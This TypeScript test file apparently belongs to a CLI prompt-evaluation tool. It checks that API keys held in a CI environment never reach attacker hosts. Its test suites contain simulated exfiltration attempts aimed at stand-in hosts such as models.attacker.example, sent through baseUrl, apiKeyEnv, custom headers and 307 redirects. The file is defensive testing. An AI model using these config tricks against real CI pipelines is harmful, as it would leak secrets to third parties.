// Attacks 1, 2 and 10 of issue 12: a pull request's suite decides where requests go, while the CI
// environment holds the secrets. Servers on 127.0.0.2 and 127.0.0.3 stand in for the attacker's
// hosts. No secret may reach them in any form (a header, the body, a redirect): a key goes only to
// its provider's own server or to a host allowed outside the repository (--allow-host,
// PROMPTSHIFT_ALLOW_HOSTS); a suite may name only the provider's default key variable unless
// PROMPTSHIFT_ALLOW_KEY_ENVS allows another; `headers` are sent, and one carrying a key counts as a key.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { startFakeModelServer, type FakeModelServer } from '../../fakes/model-server';
import { cli, makeWorkspace, tempDir, type Workspace } from './helpers';

const OPENAI_KEY = 'sk-openai-secret-0123456789';
const ANTHROPIC_KEY = 'sk-ant-secret-0123456789';
const GITHUB_TOKEN = 'ghp_githubsecret0123456789';
const SECRETS = [OPENAI_KEY, ANTHROPIC_KEY, GITHUB_TOKEN];
/** What a CI job of a pull request has in its environment. */
const CI_ENV = { OPENAI_API_KEY: OPENAI_KEY, ANTHROPIC_API_KEY: ANTHROPIC_KEY, GITHUB_TOKEN, XDG_STATE_HOME: tempDir('state') };
const EVAL = ['eval', 'support.evals.yaml', '--a', 'working', '--b', 'working', '--no-cache'];

let two: FakeModelServer; // the attacker's first host
let three: FakeModelServer; // the attacker's second host
before(async () => {
  two = await startFakeModelServer({ host: '127.0.0.2' });
  three = await startFakeModelServer({ host: '127.0.0.3' });
});
after(async () => {
  await two.close();
  await three.close();
});

/** Every secret in any form a request could carry it: headers (also base64, as basic auth would) and body. */
function leaks(server: FakeModelServer): string[] {
  return server.log.flatMap((r) => {
    const text = JSON.stringify(r.headers) + JSON.stringify(r.body);
    return SECRETS.filter((s) => text.includes(s) || text.includes(Buffer.from(s).toString('base64').slice(0, 16)));
  });
}

function noLeaks(): void {
  assert.deepEqual(leaks(two), [], 'no secret reached 127.0.0.2');
  assert.deepEqual(leaks(three), [], 'no secret reached 127.0.0.3');
}

function suiteWith(prefix: string, provider: string, extra = ''): Workspace {
  return makeWorkspace(prefix, provider, `samples: 1\nbaseline: false\n${extra}`);
}

const openaiAt = (url: string, extra = '') => `  type: openai\n  model: fake-model-1\n  baseUrl: ${url}/v1\n  timeoutMs: 5000\n${extra}`;
const hostOf = (server: FakeModelServer) => new URL(server.url).host;

describe('keys in the CLI', () => {
  test('a suite naming another variable (apiKeyEnv: GITHUB_TOKEN) is refused with exit 2, naming the file, line, field and the setting that would allow it', async () => {
    const ws = suiteWith('k-env', openaiAt(two.url, '  apiKeyEnv: GITHUB_TOKEN\n'));
    const before = two.log.length;
    const { code, io } = await cli(EVAL, ws.root, CI_ENV);
    assert.equal(code, 2, io.printed());
    assert.match(io.err.join(''), /support\.evals\.yaml:\d+:\d+: provider\.apiKeyEnv: .*GITHUB_TOKEN.*OPENAI_API_KEY.*PROMPTSHIFT_ALLOW_KEY_ENVS=GITHUB_TOKEN/);
    assert.equal(two.log.length, before, 'not one request was made');
    assert.equal(fs.existsSync(path.join(ws.root, '.promptshift', 'runs')), false, 'no run was started');
  });

  test('changing only baseUrl to a loopback host that is not allowed: the run goes there without the key, and says so', async () => {
    const ws = suiteWith('k-url', openaiAt(two.url));
    const before = two.log.length;
    const { code, io } = await cli(EVAL, ws.root, CI_ENV);
    assert.ok(code === 0 || code === 1, io.printed());
    assert.ok(two.log.length > before, 'the requests went to the suite\'s server');
    for (const r of two.log.slice(before)) assert.equal(r.headers.authorization, undefined);
    noLeaks();
    assert.match(io.err.join(''), new RegExp(`OPENAI_API_KEY.* not sent to ${hostOf(two).replace(/\./g, '\\.')}.*--allow-host`));
  });

  test('a non-loopback server gets no key: https://… is refused (exit 2) when a key would go there; plain http:// is refused always', async () => {
    for (const [url, says] of [
      ['https://models.attacker.example/v1', /provider\.baseUrl: .*your openai key \(OPENAI_API_KEY\).*models\.attacker\.example.*--allow-host models\.attacker\.example/],
      ['http://models.attacker.example/v1', /provider\.baseUrl: plain http:\/\/ to models\.attacker\.example.*https/],
      ['https://api.openai.com.attacker.example/v1', /not openai's own server \(api\.openai\.com\)/],
    ] as const) {
      const ws = suiteWith('k-remote', `  type: openai\n  model: m\n  baseUrl: ${url}\n`);
      const { code, io } = await cli(EVAL, ws.root, CI_ENV);
      assert.equal(code, 2, io.printed());
      assert.match(io.err.join(''), says);
    }
  });

  test('the judge provider is held to the same rules', async () => {
    const local = await startFakeModelServer();
    try {
      // the judge names another variable: refused before the main run spends anything
      const ws = suiteWith('k-judge', openaiAt(local.url), `judge:\n  provider: { type: openai, model: judge-1, baseUrl: ${three.url}/v1, apiKeyEnv: GITHUB_TOKEN }\n`);
      const { code, io } = await cli(EVAL, ws.root, CI_ENV);
      assert.equal(code, 2, io.printed());
      assert.match(io.err.join(''), /support\.evals\.yaml:\d+:\d+: judge\.provider\.apiKeyEnv: .*GITHUB_TOKEN/);
      assert.equal(local.log.length, 0, 'the main run did not start');
      // the judge on another host with the default key: it gets no key
      const ws2 = suiteWith('k-judge2', openaiAt(local.url), `judge:\n  provider: { type: openai, model: judge-1, baseUrl: ${three.url}/v1 }\n`);
      const before = three.log.length;
      const second = await cli(EVAL, ws2.root, CI_ENV);
      assert.ok(second.code === 0 || second.code === 1, second.io.printed());
      assert.ok(three.log.length > before, 'the judge was asked');
      noLeaks();
    } finally {
      await local.close();
    }
  });

  test('a promptfoo config naming apiKeyEnvar, or a key in its headers, is refused; its plain headers are sent', async () => {
    const dir = tempDir('k-promptfoo');
    fs.mkdirSync(path.join(dir, '.promptshift'));
    fs.writeFileSync(path.join(dir, 'prompt.txt'), 'Answer {{question}}\n');
    const config = (providerConfig: string) =>
      `prompts: [file://prompt.txt]\nproviders:\n  - id: openai:chat:fake-model-1\n    config:\n      apiBaseUrl: ${two.url}/v1\n${providerConfig}tests:\n  - vars: { question: why }\n`;
    fs.writeFileSync(path.join(dir, 'promptfooconfig.yaml'), config('      apiKeyEnvar: GITHUB_TOKEN\n'));
    const named = await cli(['eval', 'promptfooconfig.yaml', '--a', 'working', '--b', 'working', '--no-cache'], dir, CI_ENV);
    assert.equal(named.code, 2, named.io.printed());
    assert.match(named.io.err.join(''), /promptfooconfig\.yaml:\d+:\d+: providers\[0\]\.config\.apiKeyEnvar: .*GITHUB_TOKEN/);
    fs.writeFileSync(path.join(dir, 'promptfooconfig.yaml'), config('      headers: { X-Api-Key: "{{env.OPENAI_API_KEY}}" }\n'));
    const keyed = await cli(['eval', 'promptfooconfig.yaml', '--a', 'working', '--b', 'working', '--no-cache'], dir, CI_ENV);
    assert.equal(keyed.code, 2, keyed.io.printed());
    assert.match(keyed.io.err.join(''), /providers\[0\]\.config\.headers\.X-Api-Key: .*key/);
    fs.writeFileSync(path.join(dir, 'promptfooconfig.yaml'), config('      headers: { X-Team: prompts }\n'));
    const before = two.log.length;
    const plain = await cli(['eval', 'promptfooconfig.yaml', '--a', 'working', '--b', 'working', '--no-cache'], dir, CI_ENV);
    assert.ok(plain.code === 0 || plain.code === 1, plain.io.printed());
    assert.ok(two.log.length > before);
    for (const r of two.log.slice(before)) assert.equal(r.headers['x-team'], 'prompts', 'config.headers are sent');
    noLeaks();
  });

  test('provider.headers are sent; a header carrying a key (from the environment, or equal to one) counts as a key', async () => {
    const plain = suiteWith('k-headers', openaiAt(two.url, '  headers: { X-Team: prompts, X-Trace: "on" }\n'));
    const before = two.log.length;
    const sent = await cli(EVAL, plain.root, CI_ENV);
    assert.ok(sent.code === 0 || sent.code === 1, sent.io.printed());
    const got = two.log.slice(before);
    assert.ok(got.length > 0);
    for (const r of got) assert.deepEqual([r.headers['x-team'], r.headers['x-trace']], ['prompts', 'on']);
    for (const header of ['"Bearer ${OPENAI_API_KEY}"', '"${GITHUB_TOKEN}"', `"${OPENAI_KEY}"`]) {
      const ws = suiteWith('k-keyheader', openaiAt(two.url, `  headers: { Authorization: ${header} }\n`));
      const { code, io } = await cli(EVAL, ws.root, CI_ENV);
      assert.equal(code, 2, `${header}: ${io.printed()}`);
      assert.match(io.err.join(''), /provider\.headers\.Authorization: /);
    }
    noLeaks();
  });

  test('allowed outside the repository (--allow-host, PROMPTSHIFT_ALLOW_HOSTS, PROMPTSHIFT_ALLOW_KEY_ENVS), the key and key headers do go there', async () => {
    // a server of its own: it does get keys, which the other tests' leak checks must not see
    const allowed = await startFakeModelServer({ host: '127.0.0.2' });
    try {
      const ws = suiteWith('k-allowed', openaiAt(allowed.url));
      let before = allowed.log.length;
      const flagged = await cli([...EVAL, '--allow-host', hostOf(allowed)], ws.root, CI_ENV);
      assert.ok(flagged.code === 0 || flagged.code === 1, flagged.io.printed());
      for (const r of allowed.log.slice(before)) assert.equal(r.headers.authorization, `Bearer ${OPENAI_KEY}`);
      const named = suiteWith('k-allowed-env', openaiAt(allowed.url, '  apiKeyEnv: GITHUB_TOKEN\n  headers: { X-Api-Key: "${GITHUB_TOKEN}" }\n'));
      before = allowed.log.length;
      const env = { ...CI_ENV, PROMPTSHIFT_ALLOW_HOSTS: `other.example, ${hostOf(allowed)}`, PROMPTSHIFT_ALLOW_KEY_ENVS: 'GITHUB_TOKEN' };
      const viaEnv = await cli(EVAL, named.root, env);
      assert.ok(viaEnv.code === 0 || viaEnv.code === 1, viaEnv.io.printed());
      assert.ok(allowed.log.length > before);
      for (const r of allowed.log.slice(before)) assert.deepEqual([r.headers.authorization, r.headers['x-api-key']], [`Bearer ${GITHUB_TOKEN}`, GITHUB_TOKEN]);
      // the allowance names a host and port: the same host on another port is not allowed
      const otherPort = await cli([...EVAL, '--allow-host', '127.0.0.2:1'], ws.root, CI_ENV);
      assert.match(otherPort.io.err.join(''), /not sent to/);
      const bad = await cli([...EVAL, '--allow-host', 'http://'], ws.root, CI_ENV);
      assert.equal(bad.code, 2);
      assert.match(bad.io.err.join(''), /--allow-host/);
    } finally {
      await allowed.close();
    }
  });
});

describe('redirects', () => {
  interface Redirector {
    url: string;
    hits: IncomingHttpHeaders[];
    server: Server;
  }

  /** An allowed server that answers every request with a 307 to the attacker's other host. */
  async function redirectorTo(target: string): Promise<Redirector> {
    const hits: IncomingHttpHeaders[] = [];
    const server = createServer((req, res) => {
      hits.push(req.headers);
      req.resume();
      res.writeHead(307, { location: `${target}${req.url}` }).end();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.2', r));
    return { url: `http://127.0.0.2:${(server.address() as AddressInfo).port}`, hits, server };
  }

  test('a 307 to another host is not followed: no x-api-key, api-key, Authorization or custom key header reaches it', async () => {
    const providers = [
      (url: string) => openaiAt(url, '  headers: { X-Custom-Key: "${OPENAI_API_KEY}" }\n'),
      (url: string) => openaiAt(url, '  azure: true\n  apiVersion: "2024-10-21"\n'),
      (url: string) => `  type: anthropic\n  model: claude-test\n  baseUrl: ${url}\n  timeoutMs: 5000\n`,
    ];
    for (const provider of providers) {
      const redirector = await redirectorTo(three.url);
      try {
        const ws = suiteWith('k-redirect', provider(redirector.url));
        const before = three.log.length;
        const { code, io } = await cli([...EVAL, '--json', '--allow-host', new URL(redirector.url).host], ws.root, CI_ENV);
        assert.ok(redirector.hits.length > 0, 'the allowed server was asked');
        assert.ok(SECRETS.some((s) => JSON.stringify(redirector.hits).includes(s)), 'and it got the key, which it may');
        assert.equal(three.log.length, before, `nothing reached the redirect target (${provider(redirector.url)})`);
        const errors = JSON.stringify(JSON.parse(io.out.join('') || '{}'));
        assert.ok(code !== 2, io.printed());
        assert.match(errors + io.err.join(''), /redirect.*not followed|HTTP 307/);
      } finally {
        redirector.server.close();
      }
    }
    noLeaks();
  });
});
